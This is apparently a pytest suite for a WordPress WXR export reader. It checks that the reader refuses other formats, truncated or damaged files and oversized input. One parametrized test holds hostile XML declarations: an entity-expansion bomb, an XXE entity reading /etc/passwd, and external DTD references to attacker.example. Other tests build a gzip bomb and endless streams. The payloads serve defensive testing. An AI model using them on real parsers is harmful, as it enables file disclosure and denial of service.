"""What is not an export, or not a whole one, or an attack, is refused in a sentence."""

import gzip
import io
import tracemalloc
from collections.abc import Iterator
from itertools import islice

import pytest

from litre.wxr.errors import (
    DamagedGzip,
    ForbiddenDeclaration,
    NotWellFormed,
    NotWxr,
    TooLarge,
    Truncated,
    UnknownEncoding,
    UnknownVersion,
    WxrError,
)
from litre.wxr.limits import Limits
from litre.wxr.reader import read
from litre.wxr.tests.exports import FOOT, HEAD, element, export
from litre.wxr.values import Item, Site

ITEM = "<item>" + element("title", "Tears") + element("wp:post_id", 16) + "</item>\n"


def refusal(data: bytes, limits: Limits | None = None) -> WxrError:
    with pytest.raises(WxrError) as caught:
        list(read(io.BytesIO(data), limits or Limits()))
    return caught.value


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (b"", "an empty file"),
        (b" \n\n", "an empty file"),
        (b"PK\x03\x04rest", "a zip file"),
        (b'{"posts": []}', "JSON"),
        (b"<!DOCTYPE html><html><body>Log in</body></html>", "an HTML page"),
        (b"<!-- x --><!DOCTYPE html><html></html>", "an HTML page"),
        (b"\xef\xbb\xbf<HTML><p>", "an HTML page"),
        (b"<feed xmlns='http://www.w3.org/2005/Atom'></feed>", "an Atom feed"),
        (b"<rss version='2.0'><channel><item></item></channel></rss>", "a plain RSS feed"),
        (b"<rss version='2.0'><channel><title>x</title></channel></rss>", "a plain RSS feed"),
        (b"<recipes><r/></recipes>", "XML of another kind (“recipes”)"),
        (b"Dear reader", "plain text or some other kind of file"),
        (b"a < b", "no XML"),
        (bytes(range(256)) * 4, "no XML"),
        (gzip.compress(b"PK\x03\x04", mtime=0), "a zip file"),
    ],
)
def test_says_what_another_format_is(data: bytes, found: str) -> None:
    error = refusal(data)
    assert isinstance(error, NotWxr)
    assert error.found == found


def test_refuses_a_version_nobody_knows() -> None:
    error = refusal(export("", Site(wxr_version="2.0")))
    assert isinstance(error, UnknownVersion)
    assert "“2.0”" in str(error)


def test_refuses_an_encoding_nobody_reads() -> None:
    assert isinstance(
        refusal(b"<?xml version='1.0' encoding='rot13'?><rss></rss>"), UnknownEncoding
    )


@pytest.mark.parametrize("end", ["</item>", "16]]>", "<title>", "]]></ti"])
def test_gives_complete_items_of_a_truncated_file_and_no_half(end: str) -> None:
    data = export(ITEM + ITEM.replace("16", "17") + ITEM.replace("Tears", "Half"))
    data = data[: data.rindex(end.encode()) + 3]
    reader = read(io.BytesIO(data))
    assert isinstance(next(reader), Site)
    assert [type(record) for record in islice(reader, 2)] == [Item, Item]
    with pytest.raises(Truncated) as caught:
        next(reader)
    assert caught.value.items == 2
    assert "item 17 “Tears”" in str(caught.value)


def test_refuses_a_truncated_gzip_in_its_own_words() -> None:
    assert isinstance(refusal(gzip.compress(export(ITEM))[:-20]), DamagedGzip)


def test_names_the_place_of_xml_that_cannot_be_mended() -> None:
    error = refusal(b"\n\n" + export(ITEM + "<item><title>a < b</title></item>"))
    assert isinstance(error, NotWellFormed)
    assert (error.line, error.near) == (18, "after item 16 “Tears”")


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss SYSTEM "http://attacker.example/x.dtd">',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/">%p;]>',
    ],
)
def test_refuses_every_declaration(declaration: str) -> None:
    data = export(ITEM).replace(b"<rss ", declaration.encode() + b"<rss ")
    assert isinstance(refusal(data), ForbiddenDeclaration)


class Endless(io.BytesIO):
    """A stream that begins with `head` and goes on with `filler` for a gigabyte."""

    def __init__(self, head: bytes, filler: bytes) -> None:
        super().__init__()
        self.given = 0
        self._parts = self._make(head, filler)

    def _make(self, head: bytes, filler: bytes) -> Iterator[bytes]:
        yield head
        block = filler * (2**16 // len(filler))
        while self.given < 2**30:
            yield block

    def read(self, size: int | None = -1) -> bytes:
        part = next(self._parts, b"")
        self.given += len(part)
        return part


@pytest.mark.parametrize(
    ("start", "filler"),
    [
        ("<item><content:encoded><![CDATA[", b"tears "),
        ("<item><title>", b"tears "),
        ("<item><title>", b"\n"),
        ("<item><title>", b"&amp;"),
        ("<item><wp:post_id", b" "),
        ("<item><guid isPermaLink='", b"x"),
        ("<!-- ", b"x"),
        ("<item>", b"<wp:comment></wp:comment>"),
        ("<item>", b"<category domain='a' nicename='b'>c</category>"),
        ("<item><title>", b"<b>"),
        ("", b"<junk>x</junk>"),
        ("<x", b"a"),
    ],
)
def test_refuses_a_gigabyte_of_anything_without_holding_it(start: str, filler: bytes) -> None:
    stream = Endless((HEAD + element("wp:wxr_version", "1.2") + start).encode(), filler)
    limits = Limits(
        text_chars=2**19, item_bytes=2**21, item_parts=5000, token_bytes=2**18, depth=20
    )
    tracemalloc.start()
    try:
        with pytest.raises(TooLarge):
            list(read(stream, limits))
        assert tracemalloc.get_traced_memory()[1] < 2**25
    finally:
        tracemalloc.stop()
    assert stream.given < 2**24


def test_the_limit_of_a_text_is_exact() -> None:
    data = export(f"<item>{element('title', 'x' * 1000)}</item>")
    assert len(list(read(io.BytesIO(data), Limits(text_chars=1000)))) == 2
    assert isinstance(refusal(data, Limits(text_chars=999)), TooLarge)


def test_refuses_a_gzip_bomb() -> None:
    bomb = gzip.compress((HEAD + "<x>").encode() + b"<x></x>" * 2**20)
    error = refusal(bomb, Limits(ratio_from_bytes=2**20))
    assert isinstance(error, TooLarge)
    assert "ratio" in str(error)


def test_refuses_more_bytes_in_all_than_allowed() -> None:
    data = HEAD.encode() + b"<x></x>" * 2**15 + FOOT.encode()
    assert isinstance(refusal(data, Limits(total_bytes=2**17)), TooLarge)


def test_refuses_too_many_attributes() -> None:
    attributes = " ".join(f'a{n}="1"' for n in range(100))
    assert isinstance(refusal(export(f"<item><title {attributes}/></item>")), TooLarge)
